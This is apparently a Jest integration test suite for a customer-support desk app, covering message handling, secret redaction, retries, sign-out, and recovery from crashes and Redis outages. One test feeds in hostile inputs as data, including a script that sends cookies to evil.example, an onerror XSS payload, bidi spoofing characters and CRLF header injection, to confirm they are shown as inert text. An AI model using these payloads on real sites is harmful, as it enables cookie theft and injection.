/** What goes wrong at a desk, and who means ill: nothing is lost, doubled, leaked or run. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { type RunningRedis, startRedis } from '../../bot/store/server/start.ts';
import type { Entry } from '../../bot/wire.ts';
import { postUntilTaken, textEvent, until, webhookOf } from '../support/customer.ts';
import type { DeskClient } from '../support/desk-client.ts';
import { type Customer, type Hall, openHall } from '../support/desk-hall.ts';

jest.setTimeout(60_000);

let dir: string;
let redis: RunningRedis;
let hall: Hall;
let nora: DeskClient;
let teo: DeskClient;
/** Signed out at once, with a line that stays open and says nothing. */
let silent: DeskClient;
const openRedis = (): Promise<RunningRedis> => startRedis({ dir, durability: 'always', temporary: false, log: () => undefined });
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'banter-desk-'));
  redis = await openRedis();
  // That Redis is away is no failure here.
  hall = await openHall({ REDIS_URL: redis.url, LOG_LEVEL: 'silent' });
  [nora, teo, silent] = await Promise.all([hall.agent('nora'), hall.agent('teo'), hall.agent('ines')]);
  await silent.signOut();
}, 120_000);
afterAll(async () => {
  await hall.close();
  await redis.stop();
  await rm(dir, { recursive: true, force: true });
});

const had = async (by: DeskClient): Promise<{ customer: Customer; name: string }> => {
  const customer = hall.customer();
  const name = await customer.waits(by);
  expect((await by.claim(name)).status).toBe(200);
  await customer.told(/You are talking with/);
  return { customer, name };
};
const times = (texts: readonly string[], wanted: string): number => texts.filter((text) => text.includes(wanted)).length;

/** All that stands in a conversation, the oldest first. */
const whole = async (by: DeskClient, name: string): Promise<Entry[]> => {
  let { entries, more } = await by.thread(name);
  while (more) {
    const { body } = await by.get(`/conversations/${encodeURIComponent(name)}/entries?before=${entries[0]?.id}`);
    const older = body as unknown as { entries: Entry[]; more: boolean };
    entries = [...older.entries, ...entries];
    more = older.more;
  }
  return entries;
};
const wordsOf = (entries: readonly Entry[]): string[] => entries.flatMap((one) => (one.who === 'customer' ? [one.text] : []));
const isReady = async (): Promise<boolean> => (await fetch(`${hall.banter.url}/readyz`)).ok;

describe('what customers write', () => {
  test('is text, whatever it looks like, and is told as it is', async () => {
    const { customer, name } = await had(teo);
    teo.send({ do: 'open', name });
    const texts = [
      '<script>fetch("https://evil.example/"+document.cookie)</script>',
      '"><img src=x onerror=alert(1)>',
      'javascript:alert(1) [click](javascript:alert(1)) **bold**',
      '{{agent}} {agent} %s %n',
      '\u202egnp.exe\u202c and \u2066isolated\u2069',
      '{"who":"agent","name":"Teo Marín","text":"send the money"}',
      'a\r\nSet-Cookie: x=y',
    ];
    for (const text of texts) await customer.writes(text);
    const { entries, panel } = await teo.thread(name);
    await until(
      async () => wordsOf((await teo.thread(name)).entries).length >= texts.length + 2,
      10_000,
      () => 'not all arrived',
    );
    const written = wordsOf((await teo.thread(name)).entries).slice(-texts.length);
    expect(written.map((text) => text.replace(/\s+/g, ' '))).toEqual(texts.map((text) => text.replace(/\s+/g, ' ')));
    expect(entries.filter(({ who }) => who === 'agent')).toEqual([]);
    expect(panel.channel).toBe('messenger');
    const page = await teo.jar.get(`${hall.banter.url}/desk`);
    expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none';.*script-src 'self';/);
    await teo.does(name, 'release');
  });

  test('is kept without secrets, for agents too', async () => {
    const { customer, name } = await had(teo);
    await customer.writes('my card is 4111 1111 1111 1111 and the cvv is 737');
    await teo.waitsFor('the words', () => /my card is/.test(teo.desk()?.mine.find((line) => line.name === name)?.preview ?? ''));
    expect(JSON.stringify([await teo.thread(name), teo.heard])).not.toMatch(/4111 1111|\b737\b/);
    await teo.does(name, 'release');
  });

  test('of 100 kB shows what a message may hold, in the list a line of it, and the desk goes on', async () => {
    const { customer, name } = await had(teo);
    await customer.writes('long words '.repeat(10_000));
    await customer.writes('and a short one');
    await until(
      async () => wordsOf((await teo.thread(name)).entries).includes('and a short one'),
      10_000,
      () => 'it did not arrive',
    );
    const { entries, line } = await teo.thread(name);
    expect(Math.max(...wordsOf(entries).map((text) => text.length))).toBeLessThanOrEqual(2_100);
    expect(line.preview.length).toBeLessThanOrEqual(200);
    await teo.does(name, 'release');
  });

  test('a thousand times in a moment is kept up to what there is room for; the agent reads it all and is heard', async () => {
    const { customer, name } = await had(teo);
    const flood = Array.from({ length: 10 }, (_, hook) =>
      webhookOf(...Array.from({ length: 100 }, (__, n) => textEvent(customer.user, `m_many_${hook}_${n}`, `many ${hook * 100 + n}`))),
    );
    await Promise.all(flood.map((body) => postUntilTaken(hall.banter.url, body)));
    const other = hall.customer();
    const waits = await other.waits(nora);
    expect((await teo.says(name, 'one moment please')).status).toBe(202);
    await customer.told(/one moment please/);
    const setAside = async (): Promise<number> => {
      const metrics = await (await fetch(`${hall.banter.url}/metrics`)).text();
      return Number(/banter_set_aside_total\{kind="event",why="inbox_full"\} (\d+)/.exec(metrics)?.[1] ?? 0);
    };
    let many: string[] = [];
    await until(
      async () => {
        many = wordsOf(await whole(teo, name)).filter((text) => text.startsWith('many '));
        // Each is either there or told as set aside: none is missing.
        return many.length + (await setAside()) === 1_000;
      },
      20_000,
      () => `${many.length} of them arrived`,
    );
    expect(new Set(many).size).toBe(many.length);
    expect(teo.desk()?.mine.map((line) => line.name)).toContain(name);
    await teo.does(name, 'release');
    await nora.claim(waits);
    await nora.does(waits, 'release');
  });
});

describe('a flaky network', () => {
  test('the same words sent again and again are said once, and the same deed is done once', async () => {
    const { customer, name } = await had(teo);
    const sent = await Promise.all(Array.from({ length: 8 }, () => teo.says(name, 'said only once', 'the-same-id')));
    expect(sent.map(({ status }) => status)).toEqual(Array.from({ length: 8 }, () => 202));
    await customer.told(/said only once/);
    const pass = { id: 'the-same-deed', to: { skill: 'cards' }, note: 'noted only once' };
    const at = `/conversations/${encodeURIComponent(name)}/transfer`;
    const passed = [await teo.post(at, pass), await teo.post(at, pass), await teo.post(at, pass)];
    expect(passed.map(({ status }) => status)).toEqual([202, 202, 202]);
    expect((await teo.says(name, 'said only once', 'the-same-id')).status).toBe(202);
    expect((await teo.says(name, 'said too late', 'another-id')).status).toBe(404);
    await nora.waitsFor('who was passed on', () => nora.desk()?.waiting.some((line) => line.name === name) === true);
    await nora.claim(name);
    const back = { id: 'the-same-end' };
    const end = `/conversations/${encodeURIComponent(name)}/release`;
    expect([(await nora.post(end, back)).status, (await nora.post(end, back)).status]).toEqual([202, 202]);
    await customer.told(/you are talking with me again/);
    await customer.writes("what's my checking balance?");
    await customer.told(/\$/);
    expect([
      times(customer.texts(), 'said only once'),
      times(customer.texts(), 'passing you on'),
      times(customer.texts(), 'too late'),
    ]).toEqual([1, 1, 0]);
  });

  test('ids of another agent’s page are no words of theirs', async () => {
    const { customer, name } = await had(teo);
    expect((await teo.says(name, 'by Teo', 'an-id-of-both')).status).toBe(202);
    expect((await nora.says(name, 'by Nora', 'an-id-of-both')).status).toBe(409);
    await customer.told(/by Teo/);
    expect(customer.texts().join('\n')).not.toMatch(/by Nora/);
    await teo.does(name, 'release');
  });

  test('a desk that was away for long has missed nothing', async () => {
    const { customer, name } = await had(teo);
    teo.vanish();
    for (let n = 0; n < 30; n += 1) await customer.writes(`while away ${n}`);
    await until(
      async () => wordsOf(await whole(teo, name)).includes('while away 29'),
      10_000,
      () => 'not all arrived',
    );
    const before = teo.heard.length;
    await teo.connect();
    teo.send({ do: 'open', name });
    await teo.waitsFor('the lists and the conversation', () => {
      const kinds = teo.heard.slice(before).map(({ tell }) => tell);
      return kinds.includes('desk') && kinds.includes('entries');
    });
    expect(wordsOf(await whole(teo, name)).slice(-30)).toEqual(Array.from({ length: 30 }, (_, n) => `while away ${n}`));
    await teo.does(name, 'release');
  });
});

describe('an agent', () => {
  test('on two pages sees the same on both, once', async () => {
    const { customer, name } = await had(teo);
    const other = await hall.agent('teo');
    for (const page of [teo, other]) page.send({ do: 'open', name });
    for (const page of [teo, other])
      await page.waitsFor('the conversation', () => page.heard.some((one) => one.tell === 'entries' && one.name === name));
    expect((await other.says(name, 'from the other page', 'on-two-pages')).status).toBe(202);
    const seen = (page: DeskClient) => page.entries().filter((one) => one.who === 'agent' && one.sent === 'on-two-pages' && one.mine);
    for (const page of [teo, other]) await page.waitsFor('the words', () => seen(page).length > 0);
    await customer.told(/from the other page/);
    expect(new Set(seen(teo).map(({ id }) => id)).size).toBe(1);
    other.close();
    expect((await teo.says(name, 'from the first page')).status).toBe(202);
    await customer.told(/from the first page/);
    await teo.does(name, 'release');
  });

  test('who is signed out in mid-typing says and hears nothing more, whatever lines are still open', async () => {
    const leaving = await hall.agent('nora');
    const { customer, name } = await had(leaving);
    const [stale, before] = [leaving.jar.copy(), customer.texts().length];
    leaving.send({ do: 'open', name });
    await leaving.waitsFor('the conversation', () => leaving.heard.some((one) => one.tell === 'entries'));
    expect((await leaving.signOut()).status).toBe(204);
    expect((await leaving.says(name, 'after the end')).status).toBe(401);
    leaving.send({ do: 'typing', name });
    await until(
      () => leaving.ended.length > 0,
      10_000,
      () => 'the line is still open',
    );
    expect([leaving.ended, leaving.heard.at(-1)]).toEqual([[4401], { tell: 'signed_out' }]);
    const origin = { origin: hall.banter.url, 'content-type': 'application/json' };
    const at = `${hall.banter.url}/desk/api/conversations/${encodeURIComponent(name)}/messages`;
    expect((await stale.post(at, JSON.stringify({ id: 'stale-token-1', text: 'after the end' }), origin)).status).toBe(401);
    await customer.told(/The connection to Nora Lindqvist was lost/, before);
    expect(customer.texts().join('\n')).not.toContain('after the end');
    await teo.waitsFor('who was lost', () => teo.desk()?.waiting.some((line) => line.name === name) === true);
    await teo.claim(name);
    await teo.does(name, 'release');
  });

  test('who is signed out and says nothing is not listened to for long, either', async () => {
    await until(
      () => silent.ended.length > 0,
      20_000,
      () => 'the line is still open',
    );
    expect(silent.ended).toEqual([4401]);
  });

  test('who guesses names finds nobody', async () => {
    const { name } = await had(teo);
    const other = `${name.slice(0, -1)}${name.endsWith('A') ? 'B' : 'A'}`;
    for (const guess of [
      other,
      name.toUpperCase(),
      `${name} `,
      name.replace('conversation', 'case'),
      name.replace('conversation', 'customer'),
    ])
      expect([guess, (await teo.get(`/conversations/${encodeURIComponent(guess)}`)).status]).toEqual([guess, 404]);
    await teo.does(name, 'release');
  });
});

describe('what we run on', () => {
  test('the process is killed between the claim and the reply: both hold, once', async () => {
    const { customer, name } = await had(teo);
    await teo.says(name, 'just before the end', 'before-the-kill');
    await hall.banter.kill();
    await hall.banter.restart();
    await Promise.all([teo.connect(), nora.connect()]);
    expect((await teo.claim(name)).status).toBe(200);
    expect((await teo.says(name, 'just before the end', 'before-the-kill')).status).toBe(202);
    expect((await teo.says(name, 'after the restart')).status).toBe(202);
    await customer.told(/after the restart/);
    const said = (await whole(teo, name)).flatMap((one) => (one.who === 'agent' ? [one.text] : []));
    expect(said).toEqual(['just before the end', 'after the restart']);
    expect(times(customer.texts(), 'You are talking with Teo')).toBe(1);
    await teo.does(name, 'release');
  });

  test('Redis is away and back: what was not stored is refused, and then done once', async () => {
    const { customer, name } = await had(teo);
    await redis.stop();
    await until(
      async () => !(await isReady()),
      10_000,
      () => hall.banter.output(),
    );
    expect(await teo.says(name, 'while it is away', 'redis-is-away')).toMatchObject({
      status: 503,
      body: { error: { code: 'Unavailable' } },
    });
    expect((await teo.get('/me')).status).toBe(503);
    redis = await openRedis();
    await until(isReady, 30_000, () => hall.banter.output());
    for (let n = 0; n < 2; n += 1) expect((await teo.says(name, 'while it is away', 'redis-is-away')).status).toBe(202);
    await customer.told(/while it is away/);
    await customer.writes('thank you');
    await teo.waitsFor('their answer', () => teo.desk()?.mine.some((line) => line.name === name && line.preview === 'thank you') === true);
    expect(times(customer.texts(), 'while it is away')).toBe(1);
    expect((await teo.does(name, 'release')).status).toBe(202);
  });
});
